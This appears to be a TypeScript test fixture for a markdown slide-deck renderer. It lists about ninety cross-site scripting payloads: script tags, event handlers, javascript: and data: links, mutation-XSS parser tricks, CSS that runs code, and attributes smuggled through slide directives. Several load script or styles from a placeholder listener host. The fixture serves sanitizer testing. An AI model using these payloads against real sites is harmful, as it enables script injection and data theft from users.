// What a talk from a stranger may hold: our own list of the known kinds. Every
// payload tries to set `__x` on the window that is on top, to reach a listener, or to
// lead the page away. `HOST` stands for the listener's address.

/** Sets what the tests look for; for places where quotes do harm. */
const RUN = 'top.__x=1';
/** The same as markup that runs when it is parsed as such. */
const IMG = `<img src=no.png onerror=${RUN}>`;

/** Text by kind. Each stands on a slide of its own. */
export const PAYLOADS: readonly (readonly [kind: string, text: string])[] = [
  ['script', `<script>${RUN}</script>`],
  ['script, upper case and broken end', `<SCRIPT\n>${RUN}</SCRIPT\t\n>`],
  ['script from elsewhere', `<script src="HOST/script.js"></script><script type=module src="HOST/module.js"></script>`],
  ['script in a script', `<scr<script>ipt>${RUN}</scr</script>ipt>`],
  ['script in SVG', `<svg><script>${RUN}</script></svg>`],
  ['script in SVG by href', `<svg><script href="HOST/svg.js"/><script xlink:href="data:text/javascript,${RUN}"/></svg>`],
  ['handler', IMG],
  ['handlers of media', `<video src=no.mp4 onerror=${RUN}></video><audio src=no.mp3 onerror=${RUN}></audio>`],
  ['handler after a slash', `<img/src=no.png/onerror=${RUN}>`],
  ['handler in odd quotes', `<img src="no.png" title='"' onerror="${RUN}"'>`],
  [
    'handlers by focus',
    `<input autofocus onfocus=${RUN}><select autofocus onfocus=${RUN}></select><b tabindex=0 autofocus onfocus=${RUN}>b</b>`,
  ],
  ['handlers of details and marquee', `<details open ontoggle=${RUN}>d</details><marquee onstart=${RUN}>m</marquee>`],
  ['handlers of animation', `<style>@keyframes k{}</style><b style="animation:k 1ms" onanimationstart=${RUN} onanimationend=${RUN}>b</b>`],
  ['body and handlers of windows', `<body onload=${RUN} onpageshow=${RUN} onhashchange=${RUN}>body`],
  ['svg/onload', `<svg/onload=${RUN}>`],
  ['svg onload', `<svg onload="${RUN}"><g onload="${RUN}"></g></svg>`],
  ['javascript links', `[a](javascript:${RUN}) [b](<javascript:${RUN}>) <a href="javascript:${RUN}">c</a>`],
  [
    'javascript links, hidden',
    `<a href=" &#1;j&#x61;va\tscript&colon;${RUN}">a</a> <a href="java&NewLine;script:${RUN}">b</a> <a href="JAVASCRIPT:${RUN}">c</a>`,
  ],
  ['javascript autolink and definition', `<javascript:${RUN}> [a][x]\n\n[x]: javascript:${RUN}`],
  ['data links', `[a](data:text/html,<script>${RUN}</script>) <a href="data:text/html;base64,PHNjcmlwdD50b3AuX194PTE8L3NjcmlwdD4=">b</a>`],
  ['vbscript and others', `<a href="vbscript:x">a</a> <a href="blob:x">b</a> <a href="filesystem:x">c</a>`],
  [
    'javascript in SVG links',
    `<svg><a xlink:href="javascript:${RUN}"><text y=20>a</text></a><a href="javascript:${RUN}"><text y=40>b</text></a></svg>`,
  ],
  [
    'links that are animated',
    `<svg><a><animate attributeName=href values="javascript:${RUN}"/><set attributeName=xlink:href to="javascript:${RUN}"/><text y=20>a</text></a></svg>`,
  ],
  [
    'handlers that are animated',
    `<svg><rect width=9 height=9><set attributeName=onclick to="${RUN}"/><animate onbegin=${RUN} attributeName=x dur=1s /></rect></svg>`,
  ],
  [
    'javascript in MathML',
    `<math><mi href="javascript:${RUN}">a</mi><maction actiontype="statusline#HOST/x" xlink:href="javascript:${RUN}">b</maction></math>`,
  ],
  ['javascript as a picture', `![a](javascript:${RUN}) <img src="javascript:${RUN}"><video poster="javascript:${RUN}"></video>`],
  ['javascript frames', `<iframe src="javascript:${RUN}"></iframe><iframe src="data:text/html,<script>${RUN}</script>"></iframe>`],
  ['frames with their document', `<iframe srcdoc="<script>${RUN}</script><img src=HOST/srcdoc>"></iframe>`],
  [
    'frames loaded late',
    `<iframe data-src="javascript:${RUN}"></iframe><iframe data-src="data:text/html,<script>${RUN}</script>"></iframe>`,
  ],
  [
    'addresses that an engine might read',
    `<b data-background-iframe="javascript:${RUN}" data-preview-link="javascript:${RUN}" data-src="javascript:${RUN}">b</b>`,
  ],
  [
    'objects',
    `<object data="javascript:${RUN}"></object><embed src="javascript:${RUN}"><applet code=x></applet><object type="text/html" data="HOST/object"></object>`,
  ],
  ['base', `<base href="HOST/base/"><base target="_top">`],
  ['meta refresh', `<meta http-equiv="refresh" content="0;url=HOST/refresh">`],
  ['meta policy', `<meta http-equiv="Content-Security-Policy" content="script-src *"><meta name=referrer content=unsafe-url>`],
  [
    'links of the head',
    `<link rel=prefetch href="HOST/prefetch"><link rel=preconnect href="HOST"><link rel=stylesheet href="HOST/sheet.css"><link rel=modulepreload href="HOST/m.js">`,
  ],
  [
    'forms',
    `<form action="HOST/form" id=f><button formaction="javascript:${RUN}">a</button><input type=image src=no.png></form><button form=f type=submit>b</button>`,
  ],
  ['form that sends itself', `<form action="javascript:${RUN}"><input autofocus><isindex type=image></form>`],
  ['ping', `<a href="#x" ping="HOST/ping">a</a>`],
  ['comments mixed', `<!-- --><!-- ${IMG} --> <!--> ${IMG} --> <!---> ${IMG} <!-- --!> ${IMG} -->`],
  ['comments that nothing closes', `<!-- ${IMG}`],
  ['conditional comments', `<!--[if gte IE 4]><script>${RUN}</script><![endif]--> <![if x]>${IMG}<![endif]>`],
  [
    'instructions and CDATA',
    `<?xml-stylesheet href="javascript:${RUN}"?> <![CDATA[${IMG}]]> <svg><![CDATA[><img src=no.png onerror=${RUN}>]]></svg>`,
  ],
  [
    'mutation: style in math',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=no.png onerror=${RUN}&gt;"></table></mtext></math>`,
  ],
  ['mutation: form in math', `<form><math><mtext></form><form><mglyph><style></math>${IMG}</style></form>`],
  ['mutation: svg title', `<svg></p><title><a id="</title>${IMG}"></a></title></svg>`],
  ['mutation: svg style', `<svg><style><a id="</style>${IMG}"></a></style></svg>`],
  ['mutation: noscript', `<noscript><p title="</noscript>${IMG}"></p></noscript>`],
  [
    'mutation: noembed, noframes, xmp',
    `<noembed><p title="</noembed>${IMG}"></noembed><noframes><p title="</noframes>${IMG}"></noframes><xmp><p title="</xmp>${IMG}"></xmp>`,
  ],
  ['mutation: textarea and title', `<textarea><p title="</textarea>${IMG}"></textarea><title><p title="</title>${IMG}"></title>`],
  ['mutation: iframe', `<iframe><p title="</iframe>${IMG}"></iframe>`],
  ['mutation: template', `<template><p title="</template>${IMG}"></template><template shadowrootmode=open>${IMG}</template>`],
  ['mutation: select', `<select><template><style><!--</style><a rel="--></style></template></select>${IMG}">x</a></select>`],
  ['mutation: table', `<table><caption><math><mi><style><!--</style><td title="--></style>${IMG}">x</table>`],
  [
    'mutation: annotation-xml',
    `<math><annotation-xml encoding="text/html"><p title="</annotation-xml>${IMG}">x</p>${IMG}</annotation-xml></math>`,
  ],
  [
    'mutation: desc and foreignObject',
    `<svg><desc><style></desc>${IMG}</style></svg><svg><foreignObject><p><svg><title></foreignObject>${IMG}</svg>`,
  ],
  ['mutation: backticks', `<b title="\`${IMG}\`">b</b> \`<b title="\`${IMG}">`],
  [
    'mutation: namespaces by tag',
    `<svg:img onerror=${RUN} src=no.png></svg:img><x:script xmlns:x="http://www.w3.org/1999/xhtml">${RUN}</x:script>`,
  ],
  ['plaintext', `<b>before</b><plaintext>${IMG}`],
  ['a code span that ends too early', `\`\`\`html\n</code></pre>${IMG}\n\`\`\``],
  ['a language of a fence', `\`\`\`"><img/src=no.png/onerror=${RUN}>\nx\n\`\`\``],
  ['a title that ends too early', `![a](no.png "x\\" onerror=\\"${RUN}") [a](#x '"><img src=no.png onerror=${RUN}>')`],
  ['an alternative text', `!["><img src=no.png onerror=${RUN}>](no.png)`],
  [
    'styles that run',
    `<b style="background:url(javascript:${RUN});behavior:url(#default);-moz-binding:url(javascript:${RUN});width:expression(${RUN})">b</b>`,
  ],
  [
    'style sheets that fetch',
    `<style>@import "HOST/import.css"; @import url(HOST/import2.css); @font-face{font-family:evil;src:url(HOST/font)} h1{font-family:evil}</style>`,
  ],
  ['style that ends too early', `<style></style ><img src=no.png onerror=${RUN}><style>{}</style>`],
  ['entities', `&lt;script&gt;${RUN}&lt;/script&gt; &#60;img src=no.png onerror=${RUN}&#62;`],
  [
    'is and slots',
    `<b is="x-y" slot="s" part="p" onslotchange=${RUN}>b</b><slot name=s onslotchange=${RUN}></slot><x-y onx=${RUN}>x</x-y>`,
  ],
  [
    'popovers',
    `<button popovertarget=x>b</button><div popover id=x onbeforetoggle=${RUN} ontoggle=${RUN}>p</div><dialog open onclose=${RUN}>d</dialog>`,
  ],
  ['style in SVG that is text first', `<svg><style>&lt;/style&gt;&lt;img src=no.png onerror=${RUN}&gt;</style></svg>`],
  ['style in MathML that is text first', `<math><style>&lt;/style&gt;&lt;img src=no.png onerror=${RUN}&gt;</style></math>`],
  ['style that loses what made it one', `<math><annotation-xml encoding="text/html"><style>${IMG}</style></annotation-xml></math>`],
  ['style with elements in it', `<svg><style><a title="</style>${IMG}">x</a></style></svg>`],
  [
    'speculation and import maps',
    `<script type=speculationrules>{"prefetch":[{"urls":["HOST/spec"]}]}</script><script type=importmap>{"imports":{}}</script>`,
  ],
  ['manifest', `<html manifest="HOST/m"><head><link rel=manifest href="HOST/manifest"></head></html>`],
  [
    'imitation of what an engine or a theme shows',
    `<aside class="notes"><script>${RUN}</script>${IMG}</aside><div data-markdown><textarea data-template>${IMG}</textarea></div>`,
  ],
  // What our own notations and those of the dialects would carry.
  [
    'attributes by comment',
    `b <!-- .element: onclick="${RUN}" style="background:url(javascript:${RUN})" data-src="javascript:${RUN}" --> <a>a</a><!-- .element: href="javascript:${RUN}" -->`,
  ],
  [
    'attributes of a slide',
    `<!-- .slide: onclick="${RUN}" data-background-iframe="javascript:${RUN}" data-background-image="javascript:${RUN}" data-state="x' onclick='${RUN}" srcdoc="${IMG}" -->`,
  ],
  [
    'backgrounds',
    `<!-- .slide: data-background="url(x)');${RUN}//" data-background-video="javascript:${RUN}" data-background-gradient="x}</style>${IMG}" -->`,
  ],
  [
    'directives',
    `<!-- _backgroundImage: "url(javascript:${RUN})" -->\n<!-- _color: 'red"><img src=no.png onerror=${RUN}>' -->\n<!-- _header: '${IMG}' -->\n<!-- _footer: "<script>${RUN}</script>" -->`,
  ],
  ['pictures behind', `![bg](javascript:${RUN}) ![bg "onerror=${RUN}](no.png) ![bg](data:text/html,${IMG})`],
  ['classes and names', `<!-- _class: '"><img src=no.png onerror=${RUN}>' -->\n<!-- class: x" onclick="${RUN} -->\n.x" onclick="${RUN}[b]`],
  [
    'braces',
    `![](no.png){onerror=${RUN}} ![](no.png){width="1 onerror=${RUN}"} b{onclick=${RUN} .x} ![](no.mp4){poster=javascript:${RUN}}`,
  ],
  ['containers', `:::{.a onclick=${RUN}}\nx\n:::\n\n:::note"><img src=no.png onerror=${RUN}>\ny\n:::`],
  ['macros and variables', `![:scale 50%" onerror="${RUN}](no.png) ![:x <b onclick=${RUN}>](${IMG}) {{<b onclick=${RUN}>}}`],
  ['footnotes', `a[^"onclick=${RUN}]\n\n[^"onclick=${RUN}]: ${IMG} [x](javascript:${RUN})`],
  ['formulas', `$\\href{javascript:${RUN}}{a}$ $\\htmlData{x="><img src=no.png onerror=${RUN}>}{a}$ $<img src=no.png onerror=${RUN}>$`],
  ['a diagram', `\`\`\`mermaid\n%%{init:{"securityLevel":"loose"}}%%\ngraph TD; A["${IMG}"]-->B; click A "javascript:${RUN}"\n\`\`\``],
  ['a table', `| a |\n|---|\n| ${IMG} <a href="javascript:${RUN}">a</a> |`],
  ['notes after ???', `a\n\n???\n\n${IMG} <script>${RUN}</script> [a](javascript:${RUN})`],
  ['notes after Note:', `a\n\nNote: ${IMG} <script>${RUN}</script> [a](javascript:${RUN})`],
  ['notes in comments', `<!-- ${IMG} <script>${RUN}</script> [a](javascript:${RUN}) -->`],
];

/** A talk of these texts, each below a heading that numbers it, between a first and a last slide. A comment ends what one of them may have opened. */
export function talkOf(texts: readonly string[], host: string): string {
  const slides = texts.map((text, i) => `# ${i + 1}\n\n${text.replaceAll('HOST', host)}\n\n<!-- -->\n`);
  return ['# First\n', ...slides, '# Last\n'].join('\n---\n\n');
}
